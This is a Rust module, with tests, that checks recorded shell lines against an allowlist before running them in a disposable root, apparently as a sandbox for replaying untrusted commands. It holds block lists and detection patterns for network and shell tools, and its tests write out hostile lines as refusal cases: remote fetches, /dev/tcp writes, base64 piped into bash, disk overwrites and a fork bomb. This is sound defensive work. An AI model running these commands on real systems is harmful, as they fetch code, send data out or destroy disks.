//! The gate of the throw-away root: which recorded lines may run there. See `allowed.txt`.

use std::collections::{BTreeMap, BTreeSet};

use super::words::{Simple, Word, commands};

/// The written list.
const LIST: &str = include_str!("allowed.txt");

/// How a line is given to the shell.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mode {
    /// `ssh host LINE`: no terminal, nothing to read.
    Exec,
    /// Typed at a terminal.
    Typed,
}

/// The list, read.
pub struct Allowed {
    rules: BTreeMap<&'static str, Vec<Rule>>,
    /// Names of everything that is installed in the root.
    installed: BTreeSet<String>,
    /// Names of Debian's busybox applets.
    applets: BTreeSet<String>,
}

struct Rule {
    letters: Option<&'static str>,
    long: Vec<&'static str>,
    operands: &'static str,
    exec_only: bool,
    fed: bool,
    piped: bool,
}

/// Bash's own words that are not in the list: what they do cannot be seen from the line.
const NEVER: &[&str] = &[
    "eval",
    "source",
    "exec",
    "trap",
    "bind",
    "complete",
    "compopt",
    "coproc",
    "fc",
    "mapfile",
    "readarray",
    "suspend",
    "caller",
    "return",
    "break",
    "continue",
    "getopts",
];

impl Allowed {
    /// Reads the list; `installed` and `applets` are names of programs in the root.
    pub fn new(installed: BTreeSet<String>, applets: BTreeSet<String>) -> Self {
        let mut rules: BTreeMap<&'static str, Vec<Rule>> = BTreeMap::new();
        for line in LIST.lines().filter(|line| !line.starts_with('#') && !line.trim().is_empty()) {
            let mut fields = line.split_ascii_whitespace();
            let (Some(name), Some(options), Some(operands)) = (fields.next(), fields.next(), fields.next())
            else {
                panic!("allowed.txt: {line}")
            };
            let when = fields.next();
            let parts: Vec<&str> = options.split(',').collect();
            rules.entry(name).or_default().push(Rule {
                letters: (options != "*")
                    .then(|| parts.iter().find(|part| !part.starts_with('-')).copied().unwrap_or_default()),
                long: parts.iter().filter_map(|part| part.strip_prefix("--")).collect(),
                operands,
                exec_only: when == Some("exec"),
                fed: when == Some("fed"),
                piped: when == Some("piped"),
            });
        }
        Self { rules, installed, applets }
    }

    /// Whether a line may run; `Err` says why not. `made` are base names that earlier lines may have written.
    pub fn check(&self, line: &str, mode: Mode, made: &BTreeSet<String>) -> Result<(), String> {
        if line.len() > 4000 || line.contains('\0') {
            return Err("too long".to_owned());
        }
        let found = commands(line).map_err(str::to_owned)?;
        // A name that the line itself writes is no longer unknown.
        let mut made = made.clone();
        made.extend(names_in(line));
        let mut words_of_commands = 0;
        let mut before = "";
        for simple in &found {
            let name = simple.words.first().map_or("", |word| word.text.as_str());
            let name = name.rsplit('/').next().unwrap_or_default();
            // What is piped into a shell is run: nothing but the silence of these.
            if matches!(name, "bash" | "sh" | "dash" | "ash")
                && simple.fed
                && !matches!(before, "passwd" | "chpasswd")
            {
                return Err("a shell that is fed".to_owned());
            }
            before = name;
            self.check_simple(simple, mode, &made)?;
            words_of_commands += simple.words.len();
        }
        if words_of_commands > 400 { Err("too many words".to_owned()) } else { Ok(()) }
    }

    fn check_simple(&self, simple: &Simple, mode: Mode, made: &BTreeSet<String>) -> Result<(), String> {
        for assignment in &simple.assignments {
            if ["PATH=", "LD_", "BASH_ENV", "ENV=", "IFS=", "PS", "PROMPT"]
                .iter()
                .any(|bad| assignment.starts_with(bad))
            {
                return Err(format!("sets {assignment}"));
            }
        }
        for target in &simple.written {
            if target.expands || !may_write(&target.text) {
                return Err(format!("writes to {}", target.text));
            }
        }
        match simple.words.split_first() {
            None => Ok(()),
            Some((name, args)) => self.check_call(name, args, simple.fed, mode, made),
        }
    }

    fn check_call(
        &self,
        name: &Word,
        args: &[Word],
        fed: bool,
        mode: Mode,
        made: &BTreeSet<String>,
    ) -> Result<(), String> {
        if name.expands || name.text.contains(['*', '?', '~', '$']) {
            return Err("a command that is not literal".to_owned());
        }
        let base = name.text.rsplit('/').next().unwrap_or_default();
        let in_system = !name.text.contains('/')
            || ["/bin", "/usr/bin", "/sbin", "/usr/sbin"]
                .contains(&name.text.rsplit_once('/').map_or("", |(dir, _)| dir));
        if let Some(bad) = args.iter().find(|arg| has_address(&arg.text)) {
            return Err(format!("an address: {}", bad.text));
        }
        if NEVER.contains(&base) {
            return Err(format!("{base}: never"));
        }
        let Some(rules) = self.rules.get(base).filter(|_| in_system) else {
            let exists = in_system && self.installed.contains(base) || made.contains(base);
            return if exists { Err(format!("{base}: not in the list")) } else { Ok(()) };
        };
        let mut why = String::new();
        for rule in rules {
            match self.check_rule(base, rule, args, fed, mode, made) {
                Ok(()) => return Ok(()),
                Err(reason) => why = reason,
            }
        }
        Err(format!("{base}: {why}"))
    }

    fn check_rule(
        &self,
        name: &str,
        rule: &Rule,
        args: &[Word],
        fed: bool,
        mode: Mode,
        made: &BTreeSet<String>,
    ) -> Result<(), String> {
        if rule.operands == "command" {
            if name == "xargs" {
                check_inside(name, args)?;
            }
            return self.check_inner(name, args, fed, mode, made);
        }
        if rule.exec_only && mode == Mode::Typed && !fed {
            return Err("would take the terminal".to_owned());
        }
        let mut operands = 0;
        for arg in args {
            let text = arg.text.as_str();
            if let Some(long) = text.strip_prefix("--").filter(|long| !long.is_empty()) {
                let known =
                    rule.letters.is_none() || rule.long.contains(&long.split('=').next().unwrap_or_default());
                if !known {
                    return Err(text.to_owned());
                }
            } else if let Some(letters) = text.strip_prefix('-').filter(|letters| !letters.is_empty()) {
                if let Some(known) = rule.letters
                    && !letters.chars().all(|letter| known.contains(letter) || letter.is_ascii_digit())
                {
                    return Err(text.to_owned());
                }
            } else {
                operands += 1;
                if rule.operands == "none" {
                    return Err("operands".to_owned());
                }
                if rule.operands == "paths"
                    && !may_write(text.rsplit("of=").next().unwrap_or(text))
                    && is_writer(name)
                {
                    return Err(format!("writes to {text}"));
                }
            }
        }
        if matches!(name, "find" | "tar" | "sed" | "awk" | "mawk" | "sort" | "split" | "install") {
            check_inside(name, args)?;
        }
        if rule.fed && mode == Mode::Typed && !fed && operands == 0 {
            return Err("would read the terminal".to_owned());
        }
        // `grep x FILE` reads no keys, `grep x` does.
        let needed = if matches!(name, "tee" | "tr") { usize::MAX } else { 2 };
        if rule.piped && mode == Mode::Typed && !fed && operands < needed {
            return Err("would read the terminal".to_owned());
        }
        if matches!(name, "bash" | "sh" | "dash") && !fed && mode == Mode::Typed {
            return Err("a shell in the shell".to_owned());
        }
        if name == "sleep" && args.iter().any(|arg| arg.text.parse::<f64>().map_or(true, |time| time > 3.0)) {
            return Err("sleeps long".to_owned());
        }
        Ok(())
    }

    /// `busybox cat x`, `nohup x`, `sudo x`.
    fn check_inner(
        &self,
        name: &str,
        args: &[Word],
        fed: bool,
        mode: Mode,
        made: &BTreeSet<String>,
    ) -> Result<(), String> {
        let Some((inner, rest)) = args.split_first() else { return Ok(()) };
        if inner.text.starts_with('-') || inner.text.contains('=') {
            return Err("options".to_owned());
        }
        if name == "busybox" {
            let applet = inner.text.as_str();
            if !self.applets.contains(applet) {
                return Ok(()); // "applet not found"
            }
            if matches!(applet, "tftp" | "wget" | "ftpget" | "ftpput") && rest.is_empty() {
                return Ok(()); // its usage
            }
            if !self.rules.contains_key(applet) {
                return Err(format!("applet {applet}"));
            }
        }
        self.check_call(inner, rest, fed, mode, made)
    }
}

/// Programs that write to their operands.
fn is_writer(name: &str) -> bool {
    !matches!(
        name,
        "cat"
            | "ls"
            | "grep"
            | "egrep"
            | "fgrep"
            | "head"
            | "tail"
            | "stat"
            | "file"
            | "find"
            | "wc"
            | "du"
            | "df"
            | "cd"
            | "readlink"
            | "realpath"
            | "od"
            | "xxd"
            | "hexdump"
            | "strings"
            | "md5sum"
            | "sha1sum"
            | "sha256sum"
            | "sha512sum"
            | "diff"
            | "cmp"
            | "history"
    )
}

/// Little languages that can run programs or write files.
fn check_inside(name: &str, args: &[Word]) -> Result<(), String> {
    let bad: &[&str] = match name {
        "find" => &["-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fls"],
        "tar" => &["--to-command", "--checkpoint", "-I", "--use-compress", "--rsh", "-F", ":"],
        "sed" => &["w /", "/w", "/e", "e "],
        "awk" | "mawk" => &["system", "|", "getline", ">", "while", "for"],
        "xargs" => &["bash", "sh", "rm", "kill", "wget", "curl", "perl", "python"],
        "sort" => &["--compress-program", "-T"],
        "split" => &["--filter"],
        _ => &["--strip-program"],
    };
    match args.iter().find(|arg| bad.iter().any(|bad| arg.text.contains(bad))) {
        Some(arg) => Err(arg.text.clone()),
        None => Ok(()),
    }
}

/// Files of `/proc`, `/sys` and devices stay as they are. (The root has no device nodes but the harmless ones.)
fn may_write(path: &str) -> bool {
    let harmless =
        ["/dev/null", "/dev/shm", "/dev/tty", "/dev/stdout", "/dev/stderr", "/dev/zero", "/dev/full"];
    if path.starts_with("/dev/") {
        return harmless.iter().any(|known| path.starts_with(known)) || path.starts_with("/dev/.");
    }
    !path.contains("..") && !path.starts_with("/proc/") && !path.starts_with("/sys/")
}

/// Numbers with three dots, and schemes.
fn has_address(text: &str) -> bool {
    let dotted = text.split(|c: char| !c.is_ascii_digit() && c != '.').any(|part| {
        let numbers: Vec<&str> = part.split('.').filter(|number| !number.is_empty()).collect();
        numbers.len() == 4 && numbers.iter().all(|number| number.parse::<u8>().is_ok())
    });
    dotted || text.contains("://") || text.contains("/dev/tcp") || text.contains("/dev/udp")
}

/// Base names of what a line may make: targets of redirections and every operand that is not an option.
pub fn names_in(line: &str) -> BTreeSet<String> {
    let Ok(found) = commands(line) else { return BTreeSet::new() };
    let words = found.iter().flat_map(|simple| simple.written.iter().chain(simple.words.iter().skip(1)));
    words
        .flat_map(|word| word.text.split('/').next_back().map(str::to_owned))
        .filter(|name| !name.is_empty())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn allowed() -> Allowed {
        let set = |names: &[&str]| names.iter().map(|name| (*name).to_owned()).collect();
        Allowed::new(set(&["cat", "rm", "wget", "perl", "sshd", "mkfs"]), set(&["cat", "wget", "sh", "nc"]))
    }

    #[test]
    fn harmless_lines_pass() {
        for line in [
            "uname -a",
            "cat /proc/cpuinfo | grep name | wc -l",
            "cd /tmp || cd /var/run",
            "/bin/busybox ECCHI",
            "./nothing",
            "echo x > /tmp/y; cat /tmp/y; rm -f /tmp/y",
            "wget",
        ] {
            assert_eq!(allowed().check(line, Mode::Exec, &BTreeSet::new()), Ok(()), "{line}");
        }
    }

    #[test]
    fn everything_else_is_refused() {
        for line in [
            "wget http://x.example/y",
            "busybox wget -O- x.example",
            "/bin/busybox nc -l",
            "cat x > /dev/sda",
            "dd if=/dev/zero of=/dev/vda",
            "$x",
            "perl -e 1",
            "perl x.pl",
            "mkfs",
            ":(){ :|:& };:",
            "find / -exec rm {} +",
            "awk 'BEGIN{system(\"x\")}'",
            "echo x > /proc/sysrq-trigger",
            "cp a b; ./b",
            "ping 1.2.3.4",
            "echo 1 >/dev/tcp/1.2.3.4/5",
            "eval x",
            "sh -c x",
            "echo eA== | base64 -d | bash",
            "echo x | sh",
            "ls | xargs perl",
        ] {
            assert!(allowed().check(line, Mode::Exec, &BTreeSet::new()).is_err(), "{line}");
        }
    }

    #[test]
    fn what_waits_for_keys_is_not_typed() {
        assert!(allowed().check("cat", Mode::Typed, &BTreeSet::new()).is_err());
        assert!(allowed().check("cat", Mode::Exec, &BTreeSet::new()).is_ok());
        let made = names_in("cp /bin/echo .s");
        assert!(allowed().check("./.s", Mode::Typed, &made).is_err());
    }
}
